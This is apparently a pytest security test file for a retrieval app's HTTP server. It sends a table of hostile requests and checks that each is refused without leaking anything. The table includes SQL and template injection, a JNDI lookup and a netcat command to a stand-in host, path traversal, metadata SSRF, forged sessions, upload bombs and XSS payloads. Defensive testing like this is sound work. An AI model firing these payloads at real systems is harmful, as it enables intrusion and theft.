"""Hostile inputs against the whole application with accounts on, sent raw; the table says what none of them may do.

Whatever a case expects, all of them hold to this: no fault of the server's own, nothing of a file outside the reports
or of the accounts in a response, no report more or less, no file written beside the store, no page that holds the input
as markup, and the server answers the next question.
"""

import http.client
import io
import json
import sqlite3
import time
import zipfile
from contextlib import closing
from dataclasses import dataclass, field
from functools import partial
from html.parser import HTMLParser
from types import SimpleNamespace
from urllib.parse import quote, urlsplit

import pytest
from access_app import EDITOR, PASSWORDS, READER, make_users
from api_store import SURVEY, open_rag, served
from test_access_uploads import BILLION_LAUGHS, declared, pdf_bomb, repacked

from rag.access import UploadLimits, check_upload, install
from rag.access.audit import read_audit
from rag.server import create_server
from rag.types import Answer, Filters, Route
from rag.ui.answers import answer_html
from rag.ui.markup import prose
from rag.ui.sources import source_html

SECRET = "CANARY-6d1f"
BOUNDARY = "xxhostilexx"


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """The application over three reports, with a reader, an editor and a secret beside the store."""
    folder = tmp_path_factory.mktemp("world")
    (folder / "secret.txt").write_text(SECRET, encoding="utf-8")
    with open_rag(folder) as rag:
        make_users(rag.settings.store)
        settings = rag.settings.model_copy(update={"questions_per_minute": 10_000, "login_failures": 100})
        application = create_server(rag, settings, check=partial(check_upload, limits=UploadLimits.of(settings)))
        access = install(application, settings)
        keys = {name: access.accounts.add_key(name, "test") for name in (READER, EDITOR)}
        session = access.sessions.begin(EDITOR, access.accounts.find(EDITOR).stamp)
        with served(application) as url:
            yield SimpleNamespace(
                folder=folder, rag=rag, access=access, keys=keys, session=session, netloc=urlsplit(url).netloc
            )


@dataclass
class Case:
    """One hostile request, and what is to come of it."""

    name: str
    path: str
    expected: set[int]
    method: str = "GET"
    body: bytes | str | None = None
    headers: dict[str, str] = field(default_factory=dict)
    user: str | None = EDITOR


def put(question, **more):
    return json.dumps({"question": question, **more})


def form(name, content=b"text", field_name="files"):
    head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field_name}"; filename="{name}"\r\n\r\n'
    return head.encode("utf-8", "surrogatepass") + content + f"\r\n--{BOUNDARY}--\r\n".encode()


def ask(name, question, expected=frozenset({200}), **more):
    return Case(f"question: {name}", "/api/v1/ask", set(expected), "POST", put(question, **more), JSON)


def upload(name, file_name, content=b"text", expected=frozenset({413, 415, 422})):
    return Case(f"upload: {name}", "/api/v1/reports", set(expected), "POST", form(file_name, content), FILES)


def path(name, where, expected=frozenset({400, 404, 405}), **more):
    return Case(f"path: {name}", where, set(expected), **more)


def cookie(name, value, **more):
    return Case(f"session: {name}", "/api/v1/reports", {401}, headers={"Cookie": value}, user=None, **more)


JSON = {"Content-Type": "application/json"}
XML = {"Content-Type": "application/xml"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
FILES = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
OWN_FORM = {"Sec-Fetch-Site": "same-origin", **FORM}
BY_COOKIE = {"Cookie": "rag={session}"}
DELETE = {"method": "DELETE", "user": None}
PLAIN = {"Content-Type": "text/plain"}


def big_zip():
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as container:
        container.writestr("[Content_Types].xml", "<Types/>")
        container.writestr("word/document.xml", b" " * 60_000_000)
    return data.getvalue()


CASES = [
    # Injection by the question
    ask("SQL", "' OR 1=1; DROP TABLE reports; --"),
    ask("SQL with a comment", "信访'/**/UNION/**/SELECT password FROM users--"),
    ask("a format string", "%s%n%x {0.__class__.__init__.__globals__} {settings}"),
    ask("a template", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% import os %}"),
    ask("a look-up", "${jndi:ldap://evil.invalid/a}"),
    ask("a command", "; cat /etc/passwd | nc evil.invalid 80 && $(id) `id`"),
    ask("NUL", "信访\x00案件"),
    ask("bidirectional marks", "信访\u202e\u2066件案\u2069"),
    ask("half a surrogate pair", "信访\ud800", {200, 400, 422}),
    ask("combining marks", "法" + "\u0301" * 15_000),
    ask("a pattern that backtracks", "(" * 1_000 + "a+" * 1_000 + ")" * 1_000),
    ask("an endless question", "长" * 300_000, {422}),
    ask("a huge history", "信访多少件？", {413}, history=[{"question": "a" * 20_000, "answer": "b" * 100_000}] * 50),
    ask("a filter of marks", "信访多少件？", offices=["<script>", "' OR '1'='1", "../..", "%", "*"]),
    ask("a year out of range", "信访多少件？", {422}, years=[10**30]),
    ask("an unknown field", "信访多少件？", {422}, role="editor"),
    ask("prototype pollution", "信访多少件？", {422}, __proto__={"role": "editor"}),
    Case("body: nested deeply", "/api/v1/ask", {400, 422}, "POST", "[" * 100_000, JSON),
    Case("body: not UTF-8", "/api/v1/ask", {400, 422}, "POST", b'{"question": "\xff\xfe"}', JSON),
    Case("body: 5,000 digits", "/api/v1/ask", {400, 422}, "POST", '{"question": ' + "9" * 5_000 + "}", JSON),
    Case("body: oversized", "/api/v1/ask", {413}, "POST", put("a" * 3_000_000), JSON),
    Case("body: of another type", "/api/v1/ask", {415}, "POST", put(SURVEY), PLAIN),
    Case("body: XML with an entity", "/api/v1/ask", {415}, "POST", BILLION_LAUGHS, XML),
    Case("body: messages that are none", "/v1/chat/completions", {400, 422}, "POST", '{"messages": {"0": 1}}', JSON),
    # Ways out of the store
    path("traversal in an id", "/api/v1/reports/../../secret.txt"),
    path("traversal, encoded", "/api/v1/reports/..%2f..%2fsecret.txt"),
    path("traversal, encoded twice", "/api/v1/reports/%252e%252e%252fsecret.txt", {404, 422}),
    path("traversal with backslashes", "/api/v1/reports/..%5c..%5csecret.txt"),
    path("traversal in overlong UTF-8", "/api/v1/reports/%c0%ae%c0%ae%c0%afsecret.txt", {400, 404, 422}),
    path("NUL", "/api/v1/reports/3f9ac1d2b07e%00.txt"),
    path("line break", "/api/v1/reports/a%0d%0aSet-Cookie:%20rag=1"),
    path("a citation that leads elsewhere", "/api/v1/cite/..%2f..%2fsecret.txt"),
    path("Gradio's files", "/gradio_api/file=" + quote("{folder}/secret.txt", safe="{}"), {400, 403, 404}),
    path("Gradio's files, from the root", "/gradio_api/file=/etc/passwd", {400, 403, 404}),
    path("Gradio's files, the accounts", "/gradio_api/file=" + "{folder}/store/users.json", {400, 403, 404}),
    path("static files", "/static/..%2f..%2f..%2fsecret.txt"),
    path("assets with a doubled slash", "/assets//etc/passwd", {400, 403, 404}),
    path("an endless path", "/" + "a" * 4_000),
    # Requests that the server would make for someone
    path("Gradio's proxy to the cloud's metadata", "/gradio_api/proxy=http://169.254.169.254/latest/meta-data/"),
    path("Gradio's files from another server", "/gradio_api/file=http://169.254.169.254/", {400, 403, 404}),
    path("Gradio's monitor", "/monitoring"),
    # Who it is
    cookie("forged", f"rag={'A' * 43}"),
    cookie("a digest in place of a token", "rag={digest}"),
    cookie("SQL", "rag=' OR '1'='1"),
    cookie("a user's name", f"rag={quote(EDITOR)}; user=editor; role=editor"),
    cookie("not ASCII", "rag=\xff\xfe; =; ;;;"),
    cookie("8 KB", "rag=" + "A" * 8_000),
    cookie("the name of https's", "__Host-rag={session}"),
    Case("key: of nobody", "/api/v1/reports", {401}, headers={"Authorization": "Bearer rag_" + "A" * 43}, user=None),
    Case("key: none", "/api/v1/reports", {401}, headers={"Authorization": "Bearer null"}, user=None),
    Case("key: a password", "/api/v1/reports", {401}, headers={"Authorization": "Basic YTpi"}, user=None),
    Case("role: a reader deletes", "/api/v1/reports/{report}", {403}, "DELETE", user=READER),
    Case("role: overridden by a header", "/api/v1/reports/{report}", {401, 405}, "POST",
         headers={"X-HTTP-Method-Override": "DELETE", "X-Role": "editor"}, user=None),
    Case("role: an address of this machine claimed", "/api/v1/reports", {401},
         headers={"X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1"}, user=None),
    Case("role: a path rewritten", "/healthz", {200}, headers={"X-Original-URL": "/api/v1/audit"}, user=None),
    path("another case", "/API/v1/reports/{report}", {401, 403, 404, 405}, **DELETE),
    path("a doubled slash", "//api/v1/reports/{report}", {400, 401, 404, 405}, **DELETE),
    path("a parameter", "/api/v1/reports;x/{report}", {401, 404, 405}, **DELETE),
    Case("CSRF: a form of another site", "/api/v1/reports/{report}", {403}, "DELETE",
         headers={**BY_COOKIE, "Origin": "https://evil.invalid"}, user=None),
    Case("CSRF: nothing told", "/api/v1/reports/{report}", {403}, "DELETE", headers=BY_COOKIE, user=None),
    Case("CSRF: by GET", "/api/v1/reports/{report}?_method=DELETE", {200}, headers=BY_COOKIE, user=None),
    Case("log-in: from another site", "/login", {403}, "POST", "name=a&password=b",
         {"Origin": "null", **FORM}, None),
    Case("log-in: fields without end", "/login", {401, 413}, "POST", "&".join(f"a{n}=1" for n in range(2_000)),
         OWN_FORM, None),
    Case("log-in: SQL and markup", "/login", {401}, "POST",
         f"name={quote('<svg onload=alert(1)>')}&password={quote(chr(39) + ' OR 1=1--')}&next=//evil.invalid",
         OWN_FORM, None),
    # How it is sent
    Case("host: another's", "/api/v1/reports", {421}, headers={"Host": "evil.invalid"}),
    Case("host: marks", "/login", {400, 421}, headers={"Host": '"><script>'}, user=None),
    Case("header: a length that is none", "/api/v1/ask", {400}, "POST", "", {"Content-Length": "9" * 400, **JSON}),
    Case("header: 60 KB", "/api/v1/reports", {200, 400, 431}, headers={"X-Filler": "a" * 60_000}),
    Case("method: TRACE", "/api/v1/reports", {405}, "TRACE"),
    Case("method: CONNECT", "/api/v1/reports", {405}, "CONNECT"),
    # Files
    upload("a name that climbs", "../../../secret.txt"),
    upload("a name that climbs on Windows", "..\\..\\secret.txt"),
    upload("a name with NUL", "a.txt%00.pdf\x00"),
    upload("a name that hides its suffix", "gpj.\u202etxt.exe"),
    upload("a name of markup", '<img src=x onerror=alert(1)>.svg'),
    upload("a program named as text", "a.txt", b"MZ\x90\x00\x03\x00\x00\x00"),
    upload("a page named as a PDF", "a.pdf", b"<html><script>alert(1)</script>"),
    upload("a zip bomb", "a.docx", big_zip()),
    upload("an XML bomb", "a.docx", repacked("word/document.xml", declared(BILLION_LAUGHS))),
    upload("a PDF bomb", "a.pdf", pdf_bomb(200, times=2), {413, 422}),
    upload("too large", "a.txt", b"a" * 200_000),
    Case("upload: of no announced length", "/api/v1/reports", {411}, "POST", iter([b"x"]),
         FILES),
    Case("upload: by a reader to Gradio", "/gradio_api/upload", {403}, "POST", form("a.txt"),
         FILES, READER),
]  # fmt: skip


def test_the_table_is_long_enough_and_names_each_case_once():
    assert len(CASES) >= 40
    assert len({case.name for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_no_hostile_request_gets_through(case, world):
    reports = {meta.id for meta in world.rag.reports()}
    beside = sorted(path.name for path in world.folder.iterdir())
    status, headers, body = send(case, world)
    assert status in case.expected, (status, body[:500])
    assert status < 500
    folder = "no one's" if "{folder}" in case.path else str(world.folder)
    for told in (SECRET, "$argon2id$", "root:x:", "Traceback", "sqlite", world.keys[EDITOR], folder):
        assert told not in body
    refused_unread = body == "Invalid HTTP request received."  # by the server, before the application
    assert headers.get("x-content-type-options") == "nosniff" or refused_unread
    assert "set-cookie" not in headers
    if headers.get("content-type", "").startswith("text/html"):
        assert not elements(body) & {"svg", "img", "iframe"} and "evil.invalid" not in body
    assert {meta.id for meta in world.rag.reports()} == reports
    assert sorted(path.name for path in world.folder.iterdir()) == beside
    assert send(Case("alive", "/healthz", {200}, user=None), world)[0] == 200


def test_every_entry_of_the_log_is_one_line_after_all_that(world):
    text = (world.access.settings.store / "audit" / "audit.jsonl").read_bytes()
    assert text.isascii() and all(json.loads(line)["action"] for line in text.splitlines())
    assert all(
        entry["user"] in ("", READER, EDITOR) or "log-in" in entry["action"]
        for entry in read_audit(world.rag.settings.store)
    )


def test_more_files_than_one_request_may_bring_are_refused(world):
    part = form("a.txt").removesuffix(f"--{BOUNDARY}--\r\n".encode())
    body = part * 11 + f"--{BOUNDARY}--\r\n".encode()
    status, _, told = send(Case("files", "/api/v1/reports", {413}, "POST", body, FILES), world)
    assert status == 413 and "RAG_UPLOAD_FILES" in told


def test_an_expired_session_is_refused(world):
    with closing(sqlite3.connect(world.access.settings.store / "sessions.sqlite")) as kept, kept:
        kept.execute("UPDATE sessions SET expires = ?", (time.time() - 1,))
    case = Case("expired", "/api/v1/reports", {401}, headers=BY_COOKIE, user=None)
    assert send(case, world)[0] == 401


def send(case: Case, world):
    """Send a request just as it is written, and return what came back."""
    report = world.rag.reports()[0].id
    with_values = {
        "{folder}": str(world.folder), "{report}": report, "{session}": world.session,
        "{digest}": stored_digest(world),
    }  # fmt: skip

    def filled(text):
        for name, value in with_values.items():
            text = text.replace(name, value)
        return text

    connection = http.client.HTTPConnection(world.netloc, timeout=60)
    headers = {name: filled(value) for name, value in case.headers.items()}
    if case.user:
        headers.setdefault("Authorization", f"Bearer {world.keys[case.user]}")
    body = case.body.encode("utf-8", "surrogatepass") if isinstance(case.body, str) else case.body
    connection.putrequest(case.method, filled(case.path), skip_host="Host" in headers, skip_accept_encoding=True)
    chunked = body is not None and not isinstance(body, bytes)
    if chunked:
        headers["Transfer-Encoding"] = "chunked"
    elif body is not None:
        headers.setdefault("Content-Length", str(len(body)))
    for name, value in headers.items():
        connection.putheader(name, value.encode("latin-1"))
    try:
        connection.endheaders(body, encode_chunked=chunked)
    except (BrokenPipeError, ConnectionResetError):
        pass  # refused before all of it was sent
    response = connection.getresponse()
    told = response.read().decode("utf-8", "replace")
    connection.close()
    return response.status, {name.lower(): value for name, value in response.getheaders()}, told


def stored_digest(world):
    with closing(sqlite3.connect(world.access.settings.store / "sessions.sqlite")) as kept:
        return kept.execute("SELECT token FROM sessions").fetchone()[0]


# Markup in what people and reports write


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.names, self.attributes = set(), set()

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}


def elements(page):
    parser = _Elements()
    parser.feed(page)
    return parser.names


XSS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.invalid/x.js></sCrIpT>", '"><svg onload=alert(1)>',
    "<img src=x onerror=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "</textarea><script>alert(1)//",
    "<a href='javascript:alert(1)'>点</a>", "[点](javascript:alert(1))", '![x](x"onerror=alert(1))',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<<script>script>alert(1)<</script>/script>",
    "' onfocus=alert(1) autofocus x='", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}",
    "<style>@import'//evil.invalid'</style>", "<form action=//evil.invalid><button>", "＜script＞alert(1)＜/script＞",
    '<a href="data:text/html,<script>alert(1)</script>">', "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "**<b onclick=alert(1)>**",
]  # fmt: skip
ALLOWED = set("div p span strong ul ol li h4 table thead tbody tr th td blockquote section button".split())
ALLOWED_IN_FORM = set("html head meta title link body main h1 p form input label button a".split())


@pytest.mark.parametrize("text", XSS)
def test_markup_of_questions_answers_and_ids_is_text(text, world):
    answer = Answer(text, "zh", Route.PASSAGE, text, refused=False, notes=(text,), engine=text)
    shown = (
        prose(text, {}, text),
        answer_html(answer, Filters(offices=(text,), regions=(text,)), "zh"),
        source_html(world.rag, {"citation": text}),
    )
    for page in shown:
        parser = _Elements()
        parser.feed(page)
        assert parser.names <= ALLOWED
        assert not any(name.startswith("on") or name in ("href", "src", "style") for name, _ in parser.attributes)


@pytest.mark.parametrize("text", XSS)
def test_the_form_shows_a_name_as_text(text, world):
    body = f"name={quote(text)}&password=x&next={quote(text)}"
    headers = OWN_FORM
    status, _, page = send(Case("form", "/login", {401}, "POST", body, headers, None), world)
    parser = _Elements()
    parser.feed(page)
    assert status in (401, 429)
    assert parser.names <= ALLOWED_IN_FORM
    assert not any(name.startswith("on") for name, _ in parser.attributes)
    assert {value for name, value in parser.attributes if name == "action"} == {"/login?lang=zh"}
    if status == 401:
        assert ("value", text.replace("\r\n", "\n")) in parser.attributes or "\n" in text
    assert PASSWORDS[EDITOR] not in page
